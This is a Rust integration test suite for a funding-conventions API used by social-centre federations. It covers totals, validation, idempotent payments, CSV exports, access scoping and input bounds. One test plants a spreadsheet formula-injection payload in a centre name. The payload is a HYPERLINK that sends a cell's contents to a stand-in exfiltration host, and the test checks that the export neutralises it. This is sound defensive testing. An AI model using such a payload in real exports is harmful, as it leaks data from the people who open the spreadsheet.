//! Conventions over HTTP: the demo Calaisis quadripartite convention as a client reads it, a funder's yearly
//! totals, writes and their user errors, the CSV export as a spreadsheet reads it, what partners and other
//! federations see, and the statements a page costs.

use serde_json::{Value, json};

use crate::support::{TestApp, token_with, user_errors};

async fn partners(app: &TestApp, token: &str) -> Vec<(String, String)> {
    let reply = app
        .gql(Some(token), "{ partners(first: 100) { nodes { id name } } }", json!({}))
        .await;
    reply.data()["partners"]["nodes"]
        .as_array()
        .unwrap_or_else(|| panic!("{}", reply.body))
        .iter()
        .map(|p| {
            (
                p["id"].as_str().unwrap().to_owned(),
                p["name"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

fn named<'a>(list: &'a [(String, String)], name: &str) -> &'a str {
    &list
        .iter()
        .find(|(_, n)| n == name)
        .unwrap_or_else(|| panic!("no {name}"))
        .0
}

#[tokio::test]
async fn the_demo_quadripartite_convention_and_a_funders_yearly_totals() {
    let app = TestApp::spawn().await;
    let viewer = app.token(Some("pas-de-calais"), &["viewer"]);
    let reply = app
        .gql(
            Some(&viewer),
            "{ conventions(filter: { kind: QUADRIPARTITE }) { totalCount nodes { reference status \
             parties { role party { __typename ... on Partner { name } ... on Federation { slug } } } \
             fundingLines { year committed paid outstanding payments { paidOn amount } } \
             totals { committed paid outstanding } } } }",
            json!({}),
        )
        .await;
    let conventions = &reply.data()["conventions"];
    assert_eq!(conventions["totalCount"], 1, "{}", reply.body);
    let quadri = &conventions["nodes"][0];
    assert_eq!(quadri["reference"], "PDC-QUADRI-2014");
    assert_eq!(quadri["status"], "EXPIRED", "2014-2017");
    let funders: Vec<&str> = quadri["parties"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|p| p["role"] == "FUNDER")
        .map(|p| p["party"]["name"].as_str().unwrap())
        .collect();
    assert_eq!(
        funders,
        [
            "CAF du Pas-de-Calais",
            "Conseil Général du Pas-de-Calais",
            "Conseil Régional Nord-Pas de Calais"
        ]
    );
    // Invented amounts: 18,000 + 12,500 + 7,500 a year for four years, paid for three.
    assert_eq!(
        quadri["totals"],
        json!({ "committed": "152000.00", "paid": "114000.00", "outstanding": "38000.00" })
    );

    // The README's example: the CAF's yearly totals, summed by the database.
    let caf = named(&partners(&app, &viewer).await, "CAF du Pas-de-Calais").to_owned();
    let totals = app
        .gql(
            Some(&viewer),
            "query($caf: ID!) { fundingTotals(groupBy: [FUNDER, YEAR], filter: { funderId: $caf }) { \
             funder { ... on Partner { name } } year committed paid outstanding } }",
            json!({ "caf": caf }),
        )
        .await;
    let rows = totals.data()["fundingTotals"]
        .as_array()
        .unwrap_or_else(|| panic!("{}", totals.body));
    let years: Vec<(i64, &str, &str)> = rows
        .iter()
        .map(|r| {
            (
                r["year"].as_i64().unwrap(),
                r["committed"].as_str().unwrap(),
                r["paid"].as_str().unwrap(),
            )
        })
        .collect();
    assert_eq!(
        years,
        [
            (2014, "18000.00", "18000.00"),
            (2015, "18000.00", "18000.00"),
            (2016, "18000.00", "18000.00"),
            (2017, "18000.00", "0.00")
        ]
    );
    assert!(rows.iter().all(|r| r["funder"]["name"] == "CAF du Pas-de-Calais"));

    // Across federations, for a national caller: one row per federation with signed conventions.
    let national = app.token(None, &["national-admin"]);
    let across = app
        .gql(
            Some(&national),
            "{ fundingTotals(groupBy: [FEDERATION]) { federation { slug } committed paid } }",
            json!({}),
        )
        .await;
    let by_federation: Vec<(&str, &str)> = across.data()["fundingTotals"]
        .as_array()
        .unwrap_or_else(|| panic!("{}", across.body))
        .iter()
        .map(|r| {
            (
                r["federation"]["slug"].as_str().unwrap(),
                r["committed"].as_str().unwrap(),
            )
        })
        .collect();
    // The Pas-de-Calais: 152,000 (quadripartite) + 1,500 (annex); the Nord: the CAF's COF, 4 centres × 4 years
    // of 68,000 € plus 1,250 € a year and 500 € a centre.
    let nord: i64 = (2014..=2017)
        .flat_map(|y| (0..4).map(move |i| 68_000 + 1_250 * (y - 2014) + 500 * i))
        .sum();
    let mut expected = vec![
        ("nord", format!("{nord}.00")),
        ("pas-de-calais", "153500.00".to_owned()),
    ];
    expected.sort();
    let mut found: Vec<(&str, String)> = by_federation.iter().map(|(f, c)| (*f, c.to_string())).collect();
    found.sort();
    assert_eq!(found, expected);
}

const CREATE: &str = "mutation($input: CreateConventionInput!) { createConvention(input: $input) { \
    convention { id version status fundingLines { id year } } userErrors { field code message } } }";
const STEP: &str = "mutation($input: TransitionConventionInput!) { transitionConvention(input: $input) { \
    convention { version status } userErrors { field code } } }";
const PAY: &str = "mutation($input: RecordPaymentsInput!) { recordPayments(input: $input) { \
    convention { version fundingLines { paid } totals { paid } } userErrors { field code message } } }";

fn content(caf: &str, reference: &str) -> Value {
    json!({
        "kind": "CPO",
        "reference": reference,
        "title": "Convention pluriannuelle d'objectifs 2026-2028",
        "startDate": "2026-01-01",
        "endDate": "2028-12-31",
        "parties": [
            { "party": { "partnerId": caf }, "role": "FUNDER" },
            { "party": { "federation": true }, "role": "BENEFICIARY" }
        ],
        "lines": [
            { "funder": { "partnerId": caf }, "beneficiary": { "federation": true }, "year": 2026,
              "nature": "FONCTIONNEMENT", "committed": "10000.10" },
            { "funder": { "partnerId": caf }, "beneficiary": { "federation": true }, "year": 2027,
              "nature": "FONCTIONNEMENT", "committed": "10000.10" }
        ]
    })
}

#[tokio::test]
async fn writes_answer_with_user_errors_and_payments_count_once() {
    let app = TestApp::spawn().await;
    let staff = app.token(Some("pas-de-calais"), &["federation-staff"]);
    let caf = named(&partners(&app, &staff).await, "CAF du Pas-de-Calais").to_owned();

    // A line outside the period, a funder that is not a funding party: each at its path, nothing written.
    let mut bad = content(&caf, "CPO-2026");
    bad["lines"][1]["year"] = json!(2030);
    bad["lines"][0]["beneficiary"] = json!({ "partnerId": caf });
    let refused = app
        .gql(Some(&staff), CREATE, json!({ "input": { "content": bad } }))
        .await;
    assert_eq!(
        user_errors(&refused.data()["createConvention"]),
        [
            ("input.content.lines.0.beneficiary".to_owned(), "VALIDATION".to_owned()),
            ("input.content.lines.1.year".to_owned(), "VALIDATION".to_owned()),
        ],
        "{}",
        refused.body
    );

    let created = app
        .gql(
            Some(&staff),
            CREATE,
            json!({ "input": { "content": content(&caf, "CPO-2026") } }),
        )
        .await;
    let convention = &created.data()["createConvention"]["convention"];
    let id = convention["id"]
        .as_str()
        .unwrap_or_else(|| panic!("{}", created.body))
        .to_owned();
    let line = convention["fundingLines"][0]["id"].as_str().unwrap().to_owned();
    let duplicate = app
        .gql(
            Some(&staff),
            CREATE,
            json!({ "input": { "content": content(&caf, "cpo-2026") } }),
        )
        .await;
    assert_eq!(
        user_errors(&duplicate.data()["createConvention"]),
        [("input.content.reference".to_owned(), "ALREADY_EXISTS".to_owned())]
    );
    let step = |to: &str, version: i64| {
        let (app, staff, id) = (&app, &staff, &id);
        let to = to.to_owned();
        async move {
            app.gql(
                Some(staff),
                STEP,
                json!({ "input": { "id": id, "version": version, "to": to } }),
            )
            .await
        }
    };
    let skipped = step("SIGNED", 1).await;
    assert_eq!(
        user_errors(&skipped.data()["transitionConvention"]),
        [("input.to".to_owned(), "INVALID_TRANSITION".to_owned())]
    );
    step("NEGOTIATION", 1).await;
    let signed = step("SIGNED", 2).await;
    assert_eq!(signed.data()["transitionConvention"]["convention"]["status"], "ACTIVE");

    let pay = |amount: &str, key: &str| {
        let (app, staff, id, line) = (&app, &staff, &id, &line);
        let (amount, key) = (amount.to_owned(), key.to_owned());
        async move {
            app.gql(
                Some(staff),
                PAY,
                json!({ "input": { "conventionId": id, "payments": [
                    { "lineId": line, "paidOn": "2026-06-30", "amount": amount, "idempotencyKey": key } ] } }),
            )
            .await
        }
    };
    let first = pay("5000.05", "caf-2026-1").await;
    assert_eq!(user_errors(&first.data()["recordPayments"]), [], "{}", first.body);
    assert_eq!(
        first.data()["recordPayments"]["convention"]["fundingLines"][0]["paid"],
        "5000.05"
    );
    let retried = pay("5000.05", "caf-2026-1").await;
    assert_eq!(
        retried.data()["recordPayments"]["convention"]["totals"]["paid"],
        "5000.05",
        "counted once"
    );
    let over = pay("5000.06", "caf-2026-2").await;
    assert_eq!(
        user_errors(&over.data()["recordPayments"]),
        [("input.payments.0.amount".to_owned(), "VALIDATION".to_owned())]
    );
    let float = app
        .gql(
            Some(&staff),
            PAY,
            json!({ "input": { "conventionId": id, "payments": [
                { "lineId": line, "paidOn": "2026-06-30", "amount": 10.5 } ] } }),
        )
        .await;
    assert!(float.codes().iter().all(|c| c != "INTERNAL"), "{}", float.body);
    assert!(
        float.body["errors"][0]["message"]
            .as_str()
            .unwrap()
            .contains("never a number")
    );

    // Signed: the content changes only through an amendment. (Version 4: the first payment's; its retry wrote
    // nothing, not even a version.)
    let frozen = app
        .gql(
            Some(&staff),
            "mutation($input: UpdateConventionInput!) { updateConvention(input: $input) { userErrors { field code } } }",
            json!({ "input": { "id": id, "version": 4, "content": content(&caf, "CPO-2026") } }),
        )
        .await;
    assert_eq!(
        user_errors(&frozen.data()["updateConvention"]),
        [("input.id".to_owned(), "INVALID_STATE".to_owned())],
        "{}",
        frozen.body
    );

    // Expiring: in force and ending within the window, unless renewed by a signed convention.
    let expiring = app
        .gql(
            Some(&staff),
            "{ expiringConventions(withinDays: 1200) { nodes { reference } } }",
            json!({}),
        )
        .await;
    assert_eq!(
        expiring.data()["expiringConventions"]["nodes"],
        json!([{ "reference": "CPO-2026" }])
    );
}

#[tokio::test]
async fn the_funding_export_is_a_spreadsheet_of_the_callers_lines_only() {
    let app = TestApp::spawn().await;
    let viewer = app.token(Some("pas-de-calais"), &["viewer"]);
    let list = partners(&app, &viewer).await;
    let url = format!("{}/export/funding.csv", app.address);
    let fetch = |token: String, query: &'static [(&'static str, &'static str)]| {
        let (app, url) = (&app, &url);
        async move {
            let reply = app
                .client
                .get(url)
                .query(query)
                .bearer_auth(token)
                .send()
                .await
                .unwrap();
            let status = reply.status().as_u16();
            let kind = reply
                .headers()
                .get("content-type")
                .map(|v| v.to_str().unwrap().to_owned())
                .unwrap_or_default();
            (status, kind, reply.text().await.unwrap())
        }
    };
    let rows = |text: &str| -> Vec<csv::StringRecord> {
        csv::Reader::from_reader(text.as_bytes())
            .records()
            .map(|r| r.unwrap())
            .collect()
    };
    let (status, kind, text) = fetch(viewer.clone(), &[("year", "2015")]).await;
    assert_eq!(status, 200, "{text}");
    assert_eq!(kind, "text/csv; charset=utf-8");
    let header = csv::Reader::from_reader(text.as_bytes()).headers().unwrap().clone();
    assert_eq!(
        header.iter().collect::<Vec<_>>(),
        [
            "reference",
            "kind",
            "convention",
            "funder",
            "beneficiary",
            "year",
            "nature",
            "committed",
            "paid",
            "outstanding"
        ]
    );
    let lines = rows(&text);
    // 2015: the quadripartite's three lines and the annex's one.
    assert_eq!(lines.len(), 4, "{text}");
    let caf = lines.iter().find(|r| &r[3] == "CAF du Pas-de-Calais").unwrap();
    assert_eq!(
        (&caf[0], &caf[4], &caf[7], &caf[8], &caf[9]),
        (
            "PDC-QUADRI-2014",
            "Fédération des Centres Sociaux du Pas-de-Calais",
            "18000.00",
            "18000.00",
            "0.00"
        )
    );
    let annex = lines.iter().find(|r| &r[1] == "ANNEXE").unwrap();
    assert_eq!(&annex[7], "1500.00");

    // A partner's token: its conventions' lines only. The agglomeration funds only the annex.
    let agglo = named(&list, "CAP Calaisis Terre d'Opale").to_owned();
    let partner = token_with(Some("pas-de-calais"), &["partner"], json!({ "partner": agglo }));
    let (status, _, text) = fetch(partner, &[]).await;
    assert_eq!(status, 200, "{text}");
    let theirs = rows(&text);
    assert_eq!(theirs.len(), 1, "{text}");
    assert_eq!(&theirs[0][0], "PDC-ANNEXE-2015-01");
    // Another federation: a header and no line; no token: 401; a bad filter: 400.
    let nord = app.token(Some("nord"), &["viewer"]);
    let (_, _, text) = fetch(nord, &[("year", "2015")]).await;
    assert!(rows(&text).iter().all(|r| !r[0].starts_with("PDC-")), "{text}");
    let anonymous = app.client.get(&url).send().await.unwrap();
    assert_eq!(anonymous.status().as_u16(), 401);
    let (status, _, text) = fetch(viewer, &[("nature", "GIFT")]).await;
    assert_eq!(status, 400);
    assert!(text.contains("GIFT is not a funding nature"), "{text}");
}

#[tokio::test]
async fn partners_and_other_federations_see_only_their_conventions_and_a_page_costs_the_same_for_more() {
    let app = TestApp::spawn().await;
    let staff = app.token(Some("pas-de-calais"), &["federation-staff"]);
    let list = partners(&app, &staff).await;
    let caf = named(&list, "CAF du Pas-de-Calais").to_owned();
    let agglo = named(&list, "CAP Calaisis Terre d'Opale").to_owned();
    const PAGE: &str = "{ conventions(first: 50) { totalCount nodes { reference \
        parties { role party { __typename ... on Partner { name } ... on Federation { slug } } } \
        fundingLines { year committed paid funder { ... on Partner { name } } } } } }";
    let count = |token: String| {
        let app = &app;
        async move {
            app.gql(Some(&token), PAGE, json!({})).await;
            let before = app.db.statement_count();
            let reply = app.gql(Some(&token), PAGE, json!({})).await;
            assert!(reply.body["errors"].is_null(), "{}", reply.body);
            (reply.data()["conventions"].clone(), app.db.statement_count() - before)
        }
    };
    let (demo, few) = count(staff.clone()).await;
    assert_eq!(demo["totalCount"], 2);
    for n in 0..12 {
        let created = app
            .gql(
                Some(&staff),
                CREATE,
                json!({ "input": { "content": content(&caf, &format!("CPO-{n:02}")) } }),
            )
            .await;
        assert!(
            created.data()["createConvention"]["convention"]["id"].is_string(),
            "{}",
            created.body
        );
    }
    let (more, many) = count(staff.clone()).await;
    assert_eq!(more["totalCount"], 14);
    assert_eq!(
        many, few,
        "14 conventions with parties and lines cost the statements of 2"
    );

    let scoped = |partner: &str| token_with(Some("pas-de-calais"), &["partner"], json!({ "partner": partner }));
    let (theirs, _) = count(scoped(&agglo)).await;
    assert_eq!(theirs["totalCount"], 1, "the agglomeration is party to the annex only");
    let (caf_sees, _) = count(scoped(&caf)).await;
    assert_eq!(caf_sees["totalCount"], 13, "the quadripartite and the twelve CPOs");
    let nord = app.token(Some("nord"), &["viewer"]);
    let (nords, _) = count(nord).await;
    assert!(
        nords["nodes"]
            .as_array()
            .unwrap()
            .iter()
            .all(|c| !c["reference"].as_str().unwrap().starts_with("PDC-")),
        "{nords}"
    );
}

/// A centre-manager's name for its centre reaches the CAF's and the staff's spreadsheets: a name a spreadsheet
/// would run as a formula is written as text there, and the amounts beside it keep their form.
#[tokio::test]
async fn no_exported_cell_starts_a_formula() {
    let app = TestApp::spawn().await;
    let staff = app.token(Some("nord"), &["federation-staff"]);
    let caf = named(&partners(&app, &staff).await, "CAF du Nord").to_owned();
    let funder = token_with(Some("nord"), &["partner"], json!({ "partner": caf }));
    let get = |token: String, path: &'static str, query: &'static [(&'static str, &'static str)]| {
        let app = &app;
        async move {
            let reply = app
                .client
                .get(format!("{}{path}", app.address))
                .query(query)
                .bearer_auth(token)
                .send()
                .await
                .unwrap();
            assert_eq!(reply.status().as_u16(), 200);
            let text = reply.text().await.unwrap();
            csv::Reader::from_reader(text.as_bytes())
                .records()
                .map(|r| r.unwrap().iter().map(str::to_owned).collect::<Vec<String>>())
                .collect::<Vec<_>>()
        }
    };
    let lines = get(funder.clone(), "/export/funding.csv", &[("year", "2015")]).await;
    let beneficiary = lines[0][4].clone();
    let centre = crate::support::centres(&app, &staff)
        .await
        .into_iter()
        .find(|(_, name)| *name == beneficiary)
        .unwrap()
        .0;
    let version = app
        .gql(
            Some(&staff),
            "query($id: ID!) { centre(id: $id) { version } }",
            json!({ "id": centre }),
        )
        .await
        .data()["centre"]["version"]
        .clone();
    let formula = "=HYPERLINK(\"http://exfiltration.example/?\"&D3,\"Centre social\")";
    let renamed = app
        .gql(
            Some(&staff),
            "mutation($input: UpdateCentreInput!) { updateCentre(input: $input) { userErrors { field code } } }",
            json!({ "input": { "id": centre, "version": version, "name": formula } }),
        )
        .await;
    assert_eq!(user_errors(&renamed.data()["updateCentre"]), [], "{}", renamed.body);

    let lines = get(funder, "/export/funding.csv", &[("year", "2015")]).await;
    let row = lines.iter().find(|r| r[4].contains("HYPERLINK")).unwrap();
    assert_eq!(row[4], format!("'{formula}"), "the CAF's export: {row:?}");
    assert!(
        row[7].chars().next().unwrap().is_ascii_digit() && row[7].ends_with(".00"),
        "amounts keep their form: {row:?}"
    );
    for cell in lines.iter().flatten() {
        assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell:?}");
    }
    let values = get(staff, "/export/indicators.csv", &[("year", "2024")]).await;
    let row = values.iter().find(|r| r[1].contains("HYPERLINK")).unwrap();
    assert_eq!(row[1], format!("'{formula}"), "the staff's export: {row:?}");
}

/// Two draft lines of the largest `i64` of cents made `fundingTotals(includeUnsigned)` fail on both databases,
/// and a five-digit year compared as text dropped a convention from the active ones on SQLite: both are refused
/// at the door, with the field they concern, and nothing is written.
#[tokio::test]
async fn amounts_and_dates_are_bounded_at_the_door() {
    let app = TestApp::spawn().await;
    let staff = app.token(Some("pas-de-calais"), &["federation-staff"]);
    let caf = named(&partners(&app, &staff).await, "CAF du Pas-de-Calais").to_owned();
    let count = || async {
        app.gql(Some(&staff), "{ conventions { totalCount } }", json!({}))
            .await
            .data()["conventions"]["totalCount"]
            .clone()
    };
    let before = count().await;
    let mut huge = content(&caf, "CPO-HUGE");
    huge["lines"][0]["committed"] = json!("92233720368547758.07");
    let mut far = content(&caf, "CPO-FAR");
    far["endDate"] = json!("+10000-01-01");
    let mut five_digits = content(&caf, "CPO-FIVE");
    five_digits["endDate"] = json!("10000-01-01");
    let mut old = content(&caf, "CPO-OLD");
    old["startDate"] = json!("1899-12-31");
    for (bad, what) in [
        (huge, "92233720368547758.07"),
        (far, "+10000-01-01"),
        (five_digits, "10000-01-01"),
        (old, "1899-12-31"),
    ] {
        let reply = app
            .gql(Some(&staff), CREATE, json!({ "input": { "content": bad } }))
            .await;
        assert!(!reply.codes().is_empty(), "{what} accepted: {}", reply.body);
        assert!(
            reply.body["errors"][0]["message"].as_str().unwrap().contains(what),
            "{}",
            reply.body
        );
    }
    // The largest amount allowed, twice, sums without overflow.
    let caf_committed = || async {
        let totals = app
            .gql(
                Some(&staff),
                "{ fundingTotals(groupBy: [FUNDER], filter: { includeUnsigned: true }) { \
                 funder { ... on Partner { name } } committed } }",
                json!({}),
            )
            .await;
        assert!(totals.codes().is_empty(), "{}", totals.body);
        let total = totals.data()["fundingTotals"]
            .as_array()
            .unwrap()
            .iter()
            .find(|t| t["funder"]["name"] == "CAF du Pas-de-Calais")
            .unwrap()["committed"]
            .as_str()
            .unwrap()
            .replace('.', "");
        total.parse::<i64>().unwrap()
    };
    let committed_before = caf_committed().await;
    let mut largest = content(&caf, "CPO-LARGEST");
    largest["lines"][0]["committed"] = json!("999999999.99");
    largest["lines"][1]["committed"] = json!("999999999.99");
    let created = app
        .gql(Some(&staff), CREATE, json!({ "input": { "content": largest } }))
        .await;
    assert_eq!(user_errors(&created.data()["createConvention"]), [], "{}", created.body);
    assert_eq!(count().await, before.as_u64().unwrap() + 1);
    assert_eq!(caf_committed().await - committed_before, 199_999_999_998);
}
